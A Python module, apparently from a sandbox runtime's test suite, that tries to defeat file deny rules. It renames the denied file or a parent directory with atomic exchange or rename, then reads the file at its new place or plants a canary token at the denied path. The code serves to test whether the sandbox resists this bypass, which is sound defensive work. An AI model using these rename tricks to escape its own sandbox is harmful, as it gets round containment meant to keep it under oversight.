"""Defeat a deny rule by moving the denied file, or a directory above it, out of the way.

A rule by name, and a mount over one name, no longer match when the file has moved. For reads the
file is then read where it went; for writes something else is put at the denied path, which is
what a trusted program would read afterwards.
Source: anthropic-experimental/sandbox-runtime (move prevention, ancestor pin).
"""

import ctypes
import os

import syscalls

AT_FDCWD = -100
RENAME_EXCHANGE = 2  # linux/fs.h
RENAME_SWAP = 2  # macOS sys/stdio.h, of renamex_np


def exchange(one, other, platform):
    """Swap two names at once."""
    if platform == "darwin":
        syscalls.checked(syscalls.libc().renamex_np(one.encode(), other.encode(), ctypes.c_uint(RENAME_SWAP)))
        return
    names = [ctypes.c_char_p(name.encode()) for name in (one, other)]
    syscalls.syscall("renameat2", AT_FDCWD, names[0], AT_FDCWD, names[1], RENAME_EXCHANGE)


def move(target, moved, away, other):
    """Take `moved` away and, for a write, put `other` in its place. Gives where the old one is now."""
    target.step("rename")
    if target.manner == "exchange":
        exchange(moved, other, target.platform)
        return other
    os.rename(moved, away)
    target.step("replace")
    if target.manner == "link":
        os.symlink(other, moved)
    elif target.act == "write":
        os.rename(other, moved)
    return away


def attempt(target):
    """Move the name that is `levels` above the denied path."""
    moved = target.path
    for _ in range(target.levels):
        moved = os.path.dirname(moved)
    target.step("prepare")
    away, other = os.path.join(target.scratch, "away"), os.path.join(target.scratch, "other")
    own = os.path.normpath(os.path.join(other, os.path.relpath(target.path, moved)))
    os.makedirs(os.path.dirname(own), exist_ok=True)
    with open(own, "w") as file:
        file.write(target.told.get("token", "no canary"))
    old = move(target, moved, away, other)
    target.step("open")
    if target.act == "read":
        with open(os.path.normpath(os.path.join(old, os.path.relpath(target.path, moved)))) as file:
            return file.read(4096) or target.absent("the moved file is empty")
    with open(target.path) as file:
        found = file.read(4096)
    return target.inside("the token is at the denied path here") if target.token in found else found
